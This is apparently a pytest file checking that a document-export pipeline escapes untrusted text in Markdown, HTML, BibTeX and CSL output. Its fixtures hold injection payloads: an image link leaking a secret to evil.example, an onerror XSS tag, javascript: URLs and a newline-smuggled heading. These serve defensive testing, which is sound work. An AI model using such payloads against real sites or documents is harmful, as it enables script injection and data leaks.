"""The export renderers keep untrusted text inert: a quoted page cannot add a link, an image,
HTML or a heading to a Markdown or HTML export, and only http(s) URLs become links."""

from __future__ import annotations

import json
import re

from footnote.pipelines.export.document import (
    DocSection,
    EvidenceItem,
    ExportDoc,
    Paragraph,
    TableBlock,
    Work,
)
from footnote.pipelines.export.render import render

HOSTILE = "See ![x](http://evil.example/leak?d=secret) and <img src=x onerror=alert(1)>\n# Owned"


def doc(url: str = "javascript:alert(1)") -> ExportDoc:
    work = Work("evil2024", "A {title} with & and %", url="https://example.org/a", issued="2024-05")
    ev = EvidenceItem(1, "card_1", "[click](javascript:alert(1)) " + HOSTILE, "Src <b>", "p. 2",
                      url=url, fetched_at="2026-01-01T00:00:00Z", content_hash="ab" * 32, work=work)  # fmt: skip
    table = TableBlock("Sources disagree", ("source", "figure"), (("a|b", HOSTILE),))
    section = DocSection("Size", (Paragraph(HOSTILE, (1,), ("key figure",)),), (table,))
    return ExportDoc("brief", "Q?", (("Run", "run_1"),), (section,), (ev,))


def test_markdown_escapes_every_active_character() -> None:
    md = render(doc(), "markdown").decode()
    for active in (r"!\[", r"\]\(", r"<img", r"\[click"):  # none left unescaped
        assert not re.search(r"(?<!\\)" + active, md), active
    assert not re.search(r"^#\s*Owned", md, re.M)  # no heading smuggled in by a newline
    assert "\\!\\[x\\]" in md and "a\\|b" in md  # the text is kept, escaped
    assert "[^1]" in md and "[^1]: " in md  # the export's own footnotes still work


def test_html_escapes_and_links_only_http() -> None:
    html = render(doc(), "html").decode()
    assert "<img" not in html and "&lt;img" in html and "<b>" not in html
    assert 'href="javascript' not in html and 'href="#ev-1"' in html
    assert 'href="https://example.org/p"' in render(doc("https://example.org/p"), "html").decode()


def test_bibtex_and_csl_of_the_cited_works() -> None:
    bib = render(doc(), "bibtex").decode()
    assert bib.startswith("@online{evil2024,") and r"A \{title\} with \& and \%" in bib
    assert "date = {2024-05}" in bib
    csl = json.loads(render(doc(), "csl"))
    assert csl == [{"id": "evil2024", "type": "webpage", "title": "A {title} with & and %",
                    "issued": {"date-parts": [[2024, 5]]}, "URL": "https://example.org/a"}]  # fmt: skip
